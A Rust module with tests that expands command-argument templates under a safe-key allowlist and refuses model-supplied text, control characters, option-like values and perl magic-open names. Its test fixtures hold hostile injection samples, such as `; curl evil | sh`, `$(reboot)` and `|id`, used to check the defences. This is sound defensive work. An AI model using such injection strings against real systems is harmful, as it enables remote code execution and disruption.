//! Template expansion for a helper definition's arguments (layer 4, seed 003's safe-key
//! allowlist). An argument template may contain `{key}` placeholders (`{{` and `}}` for
//! literal braces). A key is interpolated only if the policy lists it as safe **and** its value
//! did not come from a model: values from the request's free text or from earlier helper output
//! are refused with an error that says how to pass them instead. A value always stays inside the
//! one argv entry its template produced: it is never split and never seen by a shell.

use std::collections::BTreeMap;

/// Where a variable's value came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// The host or the upstream repository (a ref, a commit id, the repository name).
    Trusted,
    /// A language model, the request's free text or another helper's output.
    Model,
}

/// A variable available to templates.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Var {
    /// Its value.
    pub value: String,
    /// Where it came from.
    pub origin: Origin,
}

/// Why a template could not be expanded.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum ExpandError {
    /// The key is not in the policy's safe keys.
    #[error(
        "template {template:?}: {{{key}}} is not a safe key of the policy; only {safe:?} may be interpolated"
    )]
    NotSafe {
        /// The template.
        template: String,
        /// The key.
        key: String,
        /// The safe keys.
        safe: Vec<String>,
    },
    /// The value came from a model.
    #[error(
        "template {template:?}: {{{key}}} holds model-provided text, which is never interpolated into a command; \
         declare it as a model argument of the helper so it is checked and passed as a separate argument"
    )]
    ModelValue {
        /// The template.
        template: String,
        /// The key.
        key: String,
    },
    /// The key has no value.
    #[error("template {template:?}: {{{key}}} has no value")]
    Missing {
        /// The template.
        template: String,
        /// The key.
        key: String,
    },
    /// A trusted value that would not stay a plain value: a control character, a leading `-`
    /// where it starts an argument (an option), a name perl's magic open runs.
    #[error(
        "template {template:?}: the value of {{{key}}} {reason}; pass it as a model argument of the helper, which is checked as a flag or a path"
    )]
    BadValue {
        /// The template.
        template: String,
        /// The key.
        key: String,
        /// Why.
        reason: &'static str,
    },
    /// Unbalanced braces or a bad character.
    #[error("template {template:?}: {reason}")]
    Malformed {
        /// The template.
        template: String,
        /// Why.
        reason: &'static str,
    },
}

/// Expands each template into exactly one argument.
pub fn expand(
    templates: &[String],
    vars: &BTreeMap<String, Var>,
    safe_keys: &[String],
) -> Result<Vec<String>, ExpandError> {
    templates.iter().map(|t| expand_one(t, vars, safe_keys)).collect()
}

fn expand_one(
    template: &str,
    vars: &BTreeMap<String, Var>,
    safe_keys: &[String],
) -> Result<String, ExpandError> {
    let malformed = |reason| ExpandError::Malformed {
        template: template.to_owned(),
        reason,
    };
    let mut out = String::new();
    let mut chars = template.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '{' if chars.peek() == Some(&'{') => {
                chars.next();
                out.push('{');
            }
            '}' if chars.peek() == Some(&'}') => {
                chars.next();
                out.push('}');
            }
            '}' => {
                return Err(malformed(
                    "a `}` without its `{` (write `}}` for a literal brace)",
                ));
            }
            '{' => {
                let mut key = String::new();
                let mut closed = false;
                for c in chars.by_ref() {
                    if c == '}' {
                        closed = true;
                        break;
                    }
                    key.push(c);
                }
                if !closed {
                    return Err(malformed(
                        "a `{` without its `}` (write `{{` for a literal brace)",
                    ));
                }
                if key.is_empty()
                    || !key
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'))
                {
                    return Err(malformed(
                        "a placeholder must be `{key}` with letters, digits, `_` or `.`",
                    ));
                }
                if !safe_keys.contains(&key) {
                    return Err(ExpandError::NotSafe {
                        template: template.to_owned(),
                        key,
                        safe: safe_keys.to_vec(),
                    });
                }
                let var = vars.get(&key).ok_or_else(|| ExpandError::Missing {
                    template: template.to_owned(),
                    key: key.clone(),
                })?;
                if var.origin == Origin::Model {
                    return Err(ExpandError::ModelValue {
                        template: template.to_owned(),
                        key,
                    });
                }
                let bad = |reason| ExpandError::BadValue {
                    template: template.to_owned(),
                    key: key.clone(),
                    reason,
                };
                if var.value.chars().any(char::is_control) {
                    return Err(bad("contains a control character (NUL, a line break, an escape)"));
                }
                if out.is_empty() && var.value.starts_with('-') {
                    return Err(bad(
                        "starts the argument with `-`, which the program would read as an option",
                    ));
                }
                if crate::args::magic_component(&var.value).is_some() {
                    return Err(bad(crate::args::MAGIC_REASON));
                }
                out.push_str(&var.value);
            }
            c => out.push(c),
        }
    }
    Ok(out)
}

impl ExpandError {
    /// The rule this refusal comes from, as a stable id.
    pub fn rule(&self) -> &'static str {
        match self {
            ExpandError::NotSafe { .. } => "template.unsafe-key",
            ExpandError::ModelValue { .. } => "template.model-value",
            ExpandError::Missing { .. } => "template.missing",
            ExpandError::BadValue { .. } => "template.bad-value",
            ExpandError::Malformed { .. } => "template.malformed",
        }
    }
}
#[cfg(test)]
mod tests {
    use super::*;

    fn vars() -> BTreeMap<String, Var> {
        let mut v = BTreeMap::new();
        let mut add = |k: &str, value: &str, origin| {
            v.insert(
                k.to_owned(),
                Var {
                    value: value.to_owned(),
                    origin,
                },
            );
        };
        add("base_ref", "main", Origin::Trusted);
        add("head_sha", "0123abcd", Origin::Trusted);
        add("request", "; curl evil | sh", Origin::Model);
        add("last_output", "$(reboot)", Origin::Model);
        v
    }

    fn safe() -> Vec<String> {
        vec!["base_ref".into(), "head_sha".into(), "request".into()]
    }

    fn t(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| (*s).to_owned()).collect()
    }

    #[test]
    fn safe_trusted_values_stay_in_their_argument() {
        let out = expand(
            &t(&["--base={base_ref}", "{head_sha}", "{{literal}}", "plain arg"]),
            &vars(),
            &safe(),
        )
        .expect("ok");
        assert_eq!(out, t(&["--base=main", "0123abcd", "{literal}", "plain arg"]));
    }

    #[test]
    fn model_values_and_unsafe_keys_are_refused() {
        let err = expand(&t(&["{request}"]), &vars(), &safe()).expect_err("model value");
        assert!(matches!(err, ExpandError::ModelValue { .. }));
        assert!(err.to_string().contains("declare it as a model argument"));
        let err = expand(&t(&["{last_output}"]), &vars(), &safe()).expect_err("not safe");
        assert!(matches!(err, ExpandError::NotSafe { .. }));
        assert!(matches!(
            expand(&t(&["{unknown}"]), &vars(), &safe()),
            Err(ExpandError::NotSafe { .. })
        ));
        let mut safe = safe();
        safe.push("absent".into());
        assert!(matches!(
            expand(&t(&["{absent}"]), &vars(), &safe),
            Err(ExpandError::Missing { .. })
        ));
        for bad in ["{", "}", "{base_ref", "{a b}", "{}"] {
            assert!(expand(&t(&[bad]), &vars(), &safe).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn trusted_values_that_are_options_controls_or_perl_commands_are_refused() {
        for value in [
            "--output=/work/x",
            "-e",
            "a\x1b[2Jb",
            "a\tb",
            "main\n",
            "id|",
            "|id",
            "<x",
            "dir/|id",
            " main",
        ] {
            let mut v = vars();
            v.insert(
                "base_ref".into(),
                Var {
                    value: value.to_owned(),
                    origin: Origin::Trusted,
                },
            );
            let err = expand(&t(&["{base_ref}"]), &v, &safe()).expect_err(value);
            assert_eq!(err.rule(), "template.bad-value", "{value:?}");
        }
        // The must-run twins: a `-` after the argument's start, a pipe inside, a `;`.
        let mut v = vars();
        v.insert(
            "base_ref".into(),
            Var {
                value: "-x;a|b".to_owned(),
                origin: Origin::Trusted,
            },
        );
        let out = expand(&t(&["--base={base_ref}"]), &v, &safe()).expect("inside an argument");
        assert_eq!(out, t(&["--base=-x;a|b"]));
    }
}
